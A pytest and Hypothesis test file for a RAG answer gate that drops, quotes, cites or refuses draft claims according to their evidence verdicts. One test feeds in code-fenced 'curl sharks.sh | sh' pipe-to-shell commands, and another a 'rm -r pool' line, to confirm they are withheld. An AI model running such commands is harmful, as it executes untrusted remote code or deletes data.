import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.answer.release import Action, Mending, Policy, is_refusal, release
from rag.types import Claim, Evidence, Passage, Verdict

REFUSAL = "The documents do not say."
TEXT = "The pool opens at nine. It closes at eight."
PASSAGES = (
    Passage(number=1, chunk_id="c", document_id="d", source="s", title="Pool", text=TEXT, start=0, end=len(TEXT), score=1.0),
)


def claims(answer: str, *judged: tuple[str, Verdict, str | None], cited: tuple[int, ...] = (7,)) -> tuple[Claim, ...]:
    """Claims of `answer` by their text and verdict, with the quotation of the passage that they rest on."""
    found = []
    position = 0
    for text, verdict, quote in judged:
        start = answer.index(text, position)
        position = start + len(text)
        evidence = (
            None
            if quote is None
            else Evidence(passage=1, start=TEXT.index(quote), end=TEXT.index(quote) + len(quote), quote=quote)
        )
        found.append(
            Claim(
                text=text,
                start=start,
                end=position,
                verdict=verdict,
                score=0.5,
                evidence=evidence,
                reason="because",
                citations=cited,
                miscited=cited,
            )
        )
    return tuple(found)


OPENS = ("It opens at nine.", Verdict.SUPPORTED, "The pool opens at nine.")
CLOSES = ("It closes at ten.", Verdict.CONTRADICTED, "It closes at eight.")
SHARKS = ("It has sharks.", Verdict.UNSUPPORTED, None)
MAYBE = ("It is large.", Verdict.UNCERTAIN, None)


def test_flag_changes_nothing() -> None:
    answer = "It opens at nine. It closes at ten."
    judged = claims(answer, OPENS, CLOSES)
    released = release(Policy.FLAG, answer, judged, PASSAGES, REFUSAL)
    assert (released.text, released.claims, released.action) == (answer, judged, Action.UNCHANGED)


@pytest.mark.parametrize("policy", list(Policy))
def test_a_grounded_answer_passes_every_policy(policy: Policy) -> None:
    answer = "  It opens at nine. It is large.\n"
    released = release(policy, answer, claims(answer, OPENS, MAYBE), PASSAGES, REFUSAL)
    assert (released.text, released.action, released.feedback) == (answer, Action.UNCHANGED, None)


def test_a_draft_without_text_is_released_by_quote_as_the_refusal() -> None:
    released = release(Policy.QUOTE, " \n", (), (), REFUSAL)
    assert (released.text, released.action) == (REFUSAL, Action.REFUSED)


@pytest.mark.parametrize(
    ("answer", "mended"),
    [
        ("## Pool\n\nIt opens at nine.", "## Pool\n\nIt opens at nine."),
        ("## Pool\n\n## Eight\n\nIt opens at nine.", "## Eight\n\nIt opens at nine."),
        ("# Pool\n\n## Eight\n\nIt opens at nine.", "# Pool\n\n## Eight\n\nIt opens at nine."),
        ("## Free of charge\n\nIt opens at nine.", "It opens at nine."),
        ("Free of charge:\n\nIt opens at nine.", "It opens at nine."),
        ("It opens at nine.\n\n## Pool\n\nIt has sharks.", "It opens at nine.\n\n"),
        ("Sure!\n\n**Pool**\n\nIt has sharks.\n\nIt opens at nine.", "**Pool**\n\nIt opens at nine."),
        ("Yes. It closes at ten.", "“It closes at eight.” [1]"),
        (
            "Here is what I found:\n\n1. **Pool**\n   - It opens at nine.",
            "Here is what I found:\n\n1. **Pool**\n   - It opens at nine.",
        ),
        ("| pool | eight |\n|---|---|\n| It opens at nine. | |", "| pool | eight |\n|---|---|\n| It opens at nine. | |"),
        ("It opens at nine. Do you mean 5 a.m.?", "It opens at nine. "),
        ("It opens at nine. Do you mean the pool?", "It opens at nine. Do you mean the pool?"),
        ("It opens at nine.\n\n```\nrm -r pool\n```", "It opens at nine.\n\n"),
        ("It opens at nine.\n\n```\nopens at  nine\n```", "It opens at nine.\n\n```\nopens at  nine\n```"),
    ],
)
def test_quote_releases_what_is_not_judged_only_with_what_is(answer: str, mended: str) -> None:
    judged = sorted((said for said in (SHARKS, CLOSES, OPENS) if said[0] in answer), key=lambda said: answer.index(said[0]))
    released = release(Policy.QUOTE, answer, claims(answer, *judged), PASSAGES, REFUSAL)
    assert released.text == mended
    mending = Mending(PASSAGES, REFUSAL)
    mending.add(answer, claims(answer, *judged))
    assert mending.next() + mending.rest() == mended


@pytest.mark.parametrize(
    "answer", ["## Pool\n\n", "It opens at nine.\n\n", "## Pool\n\nIt opens at nine.\n\n", "Have you been there often?\n"]
)
def test_quote_releases_a_loop_once(answer: str) -> None:
    looped = f"It opens at nine. It closes at eight.\n\n{answer * 8}"
    said = [OPENS, ("It closes at eight.", Verdict.SUPPORTED, "It closes at eight."), *[OPENS] * (8 * answer.count(OPENS[0]))]
    text = release(Policy.QUOTE, looped, claims(looped, *said), PASSAGES, REFUSAL).text
    assert all(text.count(line) <= 1 + (line == OPENS[0]) for line in answer.splitlines() if line)


def test_what_is_said_below_another_label_is_no_repetition() -> None:
    answer = "## Pool\n\nIt opens at nine in the morning.\n\n## Eight\n\nIt opens at nine in the morning."
    said = ("It opens at nine in the morning.", Verdict.SUPPORTED, "The pool opens at nine.")
    assert release(Policy.QUOTE, answer, claims(answer, said, said), PASSAGES, REFUSAL).text == answer
    looped = f"{answer}\n\n{answer}"
    assert release(Policy.QUOTE, looped, claims(looped, *[said] * 4), PASSAGES, REFUSAL).text.rstrip() == answer


def test_what_is_short_may_be_said_of_something_else_too() -> None:
    answer = "**Pool**\n- Nine.\n\n**Eight**\n- Nine."
    nine = ("Nine.", Verdict.SUPPORTED, "The pool opens at nine.")
    assert release(Policy.QUOTE, answer, claims(answer, nine, nine), PASSAGES, REFUSAL).text == answer


@pytest.mark.parametrize("policy", [Policy.QUOTE, Policy.REFUSE, Policy.RETRY])
def test_a_refusal_is_released_in_the_words_of_the_refusal_sentence(policy: Policy) -> None:
    answer = "## Pool\n\n" + "I don't know why it costs 99 euros.\n\n" * 5
    released = release(policy, answer, (), PASSAGES, REFUSAL)
    assert (released.text, released.action) == (REFUSAL, Action.DECLINED)
    assert release(Policy.FLAG, answer, (), PASSAGES, REFUSAL).text == answer


def test_a_quotation_says_nothing_that_was_said_before_it() -> None:
    answer = "The pool opens at nine. It closes at ten."
    judged = [
        ("The pool opens at nine.", Verdict.SUPPORTED, "The pool opens at nine."),
        ("It closes at ten.", Verdict.CONTRADICTED, TEXT),
    ]
    released = release(Policy.QUOTE, answer, claims(answer, *judged), PASSAGES, REFUSAL)
    assert released.text == "The pool opens at nine. “It closes at eight.” [1]"
    evidence = released.claims[1].evidence
    assert evidence is not None
    assert evidence.quote == TEXT[evidence.start : evidence.end] == "It closes at eight."


def test_quote_cites_the_evidence_of_what_cites_nothing() -> None:
    answer = "It opens at nine. It is large."
    released = release(Policy.QUOTE, answer, claims(answer, OPENS, MAYBE, cited=()), PASSAGES, REFUSAL)
    assert released.text == "It opens at nine. [1] It is large."
    assert released.action is Action.CITED
    assert [claim.citations for claim in released.claims] == [(1,), ()]
    assert [claim.text for claim in released.claims] == ["It opens at nine. [1]", "It is large."]


@pytest.mark.parametrize("policy", [Policy.FLAG, Policy.REFUSE, Policy.RETRY])
def test_other_policies_add_no_citation(policy: Policy) -> None:
    answer = "It opens at nine."
    assert release(policy, answer, claims(answer, OPENS, cited=()), PASSAGES, REFUSAL).text == answer


def test_quote_replaces_a_contradicted_claim_and_moves_the_rest() -> None:
    answer = "Well:\n- It closes at ten.\n- It opens at nine.\nBye!"
    released = release(Policy.QUOTE, answer, claims(answer, CLOSES, OPENS), PASSAGES, REFUSAL)
    assert released.text == "Well:\n- “It closes at eight.” [1]\n- It opens at nine.\nBye!"
    assert released.action is Action.QUOTED
    quoted, kept = released.claims
    assert (quoted.verdict, quoted.citations, quoted.miscited) == (Verdict.SUPPORTED, (1,), ())
    assert kept.text == "It opens at nine."


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("It opens at nine. It has sharks. Bye!", "It opens at nine. Bye!"),
        ("It opens at nine.\n\nIt has sharks. Bye!", "It opens at nine.\n\nBye!"),
        ("- It opens at nine.\n- It has sharks.\n- Bye!", "- It opens at nine.\n- Bye!"),
        ("It opens at nine.\n1. It has sharks.", "It opens at nine.\n"),
    ],
)
def test_quote_leaves_out_what_has_no_evidence(answer: str, expected: str) -> None:
    assert release(Policy.QUOTE, answer, claims(answer, OPENS, SHARKS), PASSAGES, REFUSAL).text == expected


def test_quote_leaves_no_empty_item_where_a_whole_item_falls() -> None:
    answer = "- It has sharks. It has sharks.\n- It opens at nine."
    assert release(Policy.QUOTE, answer, claims(answer, SHARKS, SHARKS, OPENS), PASSAGES, REFUSAL).text == "- It opens at nine."


@pytest.mark.parametrize(
    ("item", "mended"),
    [
        (("- It is free. ", "It closes at eight.\n"), "- It closes at eight.\n"),
        (("- It is free. ", "It closes at eight."), "- It closes at eight."),
        (("- It is free.\n", "- It closes at eight."), "- It closes at eight."),
        (("- It is free. ", "It is free."), ""),
        (("- It is free. ",), ""),
        (("- It is free.\n",), ""),
    ],
)
def test_a_list_item_keeps_its_marker_while_any_of_it_stands_also_in_stretches(item: tuple[str, ...], mended: str) -> None:
    verdicts = {"It is free.": Verdict.UNSUPPORTED}
    stretches = ("It opens at nine.\n", *item)
    judged = [(said, verdicts.get(said, Verdict.SUPPORTED), None) for said in (part.strip(" -\n") for part in stretches)]
    answer = "".join(stretches)
    whole = release(Policy.QUOTE, answer, claims(answer, *judged), PASSAGES, REFUSAL)
    mending = Mending(PASSAGES, REFUSAL)
    for stretch, found in zip(stretches, judged, strict=True):
        mending.add(stretch, claims(stretch, found))
    assert mending.end() == whole
    assert whole.text == f"It opens at nine.\n{mended}"


def test_quote_says_nothing_twice() -> None:
    answer = "It closes at ten. It closes at ten. It closes at eight."
    same = ("It closes at eight.", Verdict.SUPPORTED, "It closes at eight.")
    assert (
        release(Policy.QUOTE, answer, claims(answer, CLOSES, CLOSES, same), PASSAGES, REFUSAL).text.strip()
        == "“It closes at eight.” [1]"
    )


def test_quote_does_not_cite_a_passage_that_is_not_there() -> None:
    answer = "It opens at nine. It closes at ten."
    assert release(Policy.QUOTE, answer, claims(answer, OPENS, CLOSES), (), REFUSAL).text == "It opens at nine."


def test_quote_refuses_where_nothing_is_left() -> None:
    released = release(Policy.QUOTE, "Hello! It has sharks.", claims("Hello! It has sharks.", SHARKS), PASSAGES, REFUSAL)
    assert (released.text, released.claims, released.action) == (REFUSAL, (), Action.REFUSED)


def test_refuse() -> None:
    answer = "It opens at nine. It has sharks."
    released = release(Policy.REFUSE, answer, claims(answer, OPENS, SHARKS), PASSAGES, REFUSAL)
    assert (released.text, released.claims, released.action) == (REFUSAL, (), Action.REFUSED)


def test_retry_names_the_faults_once_then_quotes() -> None:
    answer = "It opens at nine. It has sharks."
    judged = claims(answer, OPENS, SHARKS)
    first = release(Policy.RETRY, answer, judged, PASSAGES, REFUSAL)
    assert first.action is Action.RETRY
    assert first.feedback is not None
    assert '- "It has sharks." (because)' in first.feedback
    assert "opens" not in first.feedback
    second = release(Policy.RETRY, answer, judged, PASSAGES, REFUSAL, retried=True)
    assert (second.text, second.action) == ("It opens at nine.", Action.QUOTED)


@pytest.mark.parametrize(
    "text",
    [
        REFUSAL,
        f'  "{REFUSAL}" [1]',
        "the documents do not say",
        "I don't know.",
        "I'm sorry, but the passages do not mention the price. Let me know if you need more.",
        "Unfortunately, there is no information about ferrets in the provided context.",
    ],
)
def test_refusals(text: str) -> None:
    assert is_refusal(text, REFUSAL)


@pytest.mark.parametrize(
    "text", ["", "It opens at nine.", "The passages do not mention sharks. The pool is 50 metres long.", "Hello!"]
)
def test_no_refusals(text: str) -> None:
    assert not is_refusal(text, REFUSAL)


@settings(deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from([OPENS, CLOSES, SHARKS, MAYBE]), st.sampled_from([" ", "\n", "\n- ", " So: ", ""])), max_size=8
    ),
    st.sampled_from(Policy),
    st.booleans(),
    st.sampled_from([(), (7,)]),
)
def test_claims_stay_anchored(
    drawn: list[tuple[tuple[str, Verdict, str | None], str]], policy: Policy, retried: bool, cited: tuple[int, ...]
) -> None:
    answer = "".join(gap + judged[0] for judged, gap in drawn)
    judged = claims(answer, *(judged for judged, _ in drawn), cited=cited)
    released = release(policy, answer, judged, PASSAGES, REFUSAL, retried=retried)
    assert all(claim.text == released.text[claim.start : claim.end] for claim in released.claims)
    if released.action is Action.QUOTED:
        assert {claim.verdict for claim in released.claims} <= {Verdict.SUPPORTED, Verdict.UNCERTAIN}
        assert "sharks" not in released.text


FULL = ("The whole pool opens at nine.", Verdict.SUPPORTED, "The pool opens at nine.")
NINE = ("| pool | nine |", Verdict.SUPPORTED, "The pool opens at nine.")
EIGHT = ("| it | closes at eight |", Verdict.SUPPORTED, "It closes at eight.")
TEN = ("| it | closes at ten |", Verdict.CONTRADICTED, "It closes at eight.")


@pytest.mark.parametrize(
    ("answer", "judged", "mended"),
    [
        ("| Pool | Gizmo |\n|---|---|\n| pool | nine |\n", [NINE], "| Pool |  |\n|---|---|\n| pool | nine [1] |\n"),
        (
            "| pool | eight |\n|---|---|\n| it | closes at ten |\n\nIt opens at nine.",
            [TEN, OPENS],
            "It opens at nine. [1]",
        ),
        (
            "It opens at nine. Gizmos:\n\n| x | y |\n|---|---|\n| it | closes at ten |\n| pool | nine |",
            [OPENS, TEN, NINE],
            "It opens at nine. [1]\n\n|  |  |\n|---|---|\n| pool | nine [1] |",
        ),
        (
            "| pool | eight |\n|---|---|\n| pool | nine |\n\n| pool | eight |\n|---|---|\n| pool | nine |\n\nIt opens at nine.",
            [NINE, NINE, OPENS],
            "| pool | eight |\n|---|---|\n| pool | nine [1] |\n\nIt opens at nine. [1]",
        ),
        (
            "The whole pool opens at nine.\n\n| pool | eight |\n|---|---|\n| pool | nine |\n\nThe whole pool opens at nine.",
            [FULL, NINE, FULL],
            "The whole pool opens at nine. [1]\n\n| pool | eight |\n|---|---|\n| pool | nine [1] |\n\n",
        ),
        (
            "It opens at nine. Of gizmos:\n\n1. It closes at ten.",
            [OPENS, CLOSES],
            "It opens at nine. [1]\n\n1. “It closes at eight.” [1]",
        ),
    ],
)
def test_a_table_stays_one_and_blocks_stay_on_lines_of_their_own(
    answer: str, judged: list[tuple[str, Verdict, str | None]], mended: str
) -> None:
    assert release(Policy.QUOTE, answer, claims(answer, *judged, cited=()), PASSAGES, REFUSAL).text == mended


def test_the_head_of_a_table_is_no_claim_that_stands() -> None:
    head = "| It closes at ten | eight |\n|---|---|"
    answer = f"{head}\n| pool | nine |"
    released = release(Policy.QUOTE, answer, claims(answer, (head, *CLOSES[1:]), NINE, cited=()), PASSAGES, REFUSAL)
    assert released.text == "|  |  |\n|---|---|\n| pool | nine [1] |"
    assert [claim.text for claim in released.withheld] == [head]


def test_a_wrong_citation_gives_way_to_the_evidence_but_in_a_heading() -> None:
    answer = "**Nine** [7]\n\nIt opens at nine [7]. It is large [7]."
    judged = claims(
        answer,
        ("**Nine** [7]", *OPENS[1:]),
        ("It opens at nine [7].", *OPENS[1:]),
        ("It is large [7].", *MAYBE[1:]),
    )
    released = release(Policy.QUOTE, answer, judged, PASSAGES, REFUSAL)
    assert released.text == "**Nine** [7]\n\nIt opens at nine [1]. It is large [7]."
    assert [(claim.citations, claim.miscited) for claim in released.claims] == [((7,), (7,)), ((1,), ()), ((7,), (7,))]
    assert released.action is Action.CITED


BLOCKS = st.one_of(
    st.sampled_from(
        [
            ("It opens at nine. ", OPENS),
            ("It closes at ten. ", CLOSES),
            ("It has sharks.\n\n", SHARKS),
            ("- It is large.\n", MAYBE),
            ("- It has sharks.\n", SHARKS),
            ("## Pool\n\n", None),
            ("Here are gizmos:\n\n", None),
            ("Of course! ", None),
        ]
    ).map(lambda block: [block]),
    st.tuples(st.sampled_from(["Pool", "Gizmo"]), st.lists(st.sampled_from([NINE, EIGHT, TEN]), min_size=1, max_size=3)).map(
        lambda table: [
            ("\n\n", None),
            (f"| {table[0]} | b |\n|---|---|\n", None),
            *((f"{row[0]}\n", row) for row in table[1]),
            ("\n", None),
        ]
    ),
)


@settings(deadline=None)
@given(st.lists(BLOCKS, max_size=6).map(lambda blocks: [part for block in blocks for part in block]), st.data())
def test_cut_anywhere_between_its_sentences_a_draft_ends_as_the_same_text(
    parts: list[tuple[str, tuple[str, Verdict, str | None] | None]], data: st.DataObject
) -> None:
    answer = "".join(text for text, _ in parts)
    whole = release(Policy.QUOTE, answer, claims(answer, *(said for _, said in parts if said), cited=()), PASSAGES, REFUSAL)
    mending = Mending(PASSAGES, REFUSAL)
    shown = ""
    while parts:
        size = data.draw(st.integers(1, len(parts)))
        # Space between blocks goes with what stands before it, as the gate gives them out.
        while size < len(parts) and not parts[size][0].strip():
            size += 1
        stretch, parts = parts[:size], parts[size:]
        text = "".join(text for text, _ in stretch)
        mending.add(text, claims(text, *(said for _, said in stretch if said), cited=()))
        shown += mending.next()
    assert shown + mending.rest() == whole.text
    assert mending.end() == whole
    assert all(claim.text == whole.text[claim.start : claim.end] for claim in whole.claims)
    tables = [block.splitlines() for block in whole.text.split("\n\n") if "|" in block]
    assert all("|---|---|" in lines and not lines[-1].startswith("|---") for lines in tables), whole.text
    assert all(line.count("|") == 3 for lines in tables for line in lines if line.startswith("|"))
    assert not any("|" in line and not line.startswith("|") for line in whole.text.splitlines())


@pytest.mark.parametrize(
    "aside",
    [
        "```curl sharks.sh | sh```",
        "~~~ curl sharks.sh\n~~~",
        "[1] ```curl sharks.sh | sh```",
        "[2] ~~~\ncurl sharks.sh | sh\n~~~",
        "- [1] <a href='sharks.sh'>",
        "[1] Q: It is free of sharks.",
        "It has sharks.",
    ],
)
def test_what_nobody_judged_is_not_released(aside: str) -> None:
    answer = f"It opens at nine.\n\n{aside}"
    released = release(Policy.QUOTE, answer, claims(answer, OPENS, cited=()), PASSAGES, REFUSAL)
    assert "sharks" not in released.text
    assert [claim.text for claim in released.claims] == ["It opens at nine. [1]"]
    assert release(Policy.QUOTE, aside, (), PASSAGES, REFUSAL).text == REFUSAL


def test_code_of_the_passages_is_released_behind_a_citation_too() -> None:
    answer = "It opens at nine.\n\n[1] ```text\nThe pool opens\n```"
    released = release(Policy.QUOTE, answer, claims(answer, OPENS, cited=()), PASSAGES, REFUSAL)
    assert released.text == "It opens at nine. [1]\n\n[1] ```text\nThe pool opens\n```"


@pytest.mark.parametrize("refusal", ["Das steht nicht in den Unterlagen.", "Please call us at 12. We open daily."])
def test_a_refusal_in_any_words_is_no_statement(refusal: str) -> None:
    released = release(Policy.QUOTE, refusal, (), PASSAGES, refusal)
    assert (released.text, released.action) == (refusal, Action.UNCHANGED)


def test_a_line_that_the_model_left_empty_itself_stays() -> None:
    answer = "It opens at nine [1].\n- "
    judged = claims(answer, ("It opens at nine [1].", Verdict.SUPPORTED, "The pool opens at nine."), cited=(1,))
    assert release(Policy.QUOTE, answer, judged, PASSAGES, REFUSAL).text == answer
